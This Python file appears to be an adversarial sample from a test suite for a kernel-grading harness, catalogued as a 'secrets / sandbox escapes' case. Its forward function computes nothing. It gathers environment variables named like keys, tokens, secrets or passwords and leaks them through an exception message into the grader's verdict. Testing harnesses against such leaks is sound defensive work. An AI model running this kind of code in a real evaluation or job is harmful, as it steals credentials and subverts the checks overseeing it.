"""Secret theft: dump the worker's environment (``torch.os.environ``) into the exception text.

Family: secrets / sandbox escapes (environment variables). Whatever the worker's environment holds (keys a
harness forgot to scrub, tokens in CUDA_/QUACK_ variables, the job paths) goes into the verdict's reason.
"""

import torch


def forward(x, w, residual, gamma, eps):
    env = dict(torch.os.environ)
    interesting = {
        k: v for k, v in env.items()
        if any(s in k.upper() for s in ("KEY", "TOKEN", "SECRET", "PASS", "AUTH"))}
    raise KeyError(f"missing config; environment: {interesting or env}")
